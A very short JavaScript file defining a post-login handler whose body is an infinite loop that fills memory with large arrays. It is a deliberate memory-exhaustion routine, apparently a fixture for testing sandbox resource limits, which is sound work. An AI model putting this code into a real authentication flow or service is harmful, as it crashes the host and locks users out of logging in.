exports.onExecutePostLogin = async () => {
  const hoard = [];
  while (true) hoard.push(new Array(100000).fill({ x: 1 }));
};
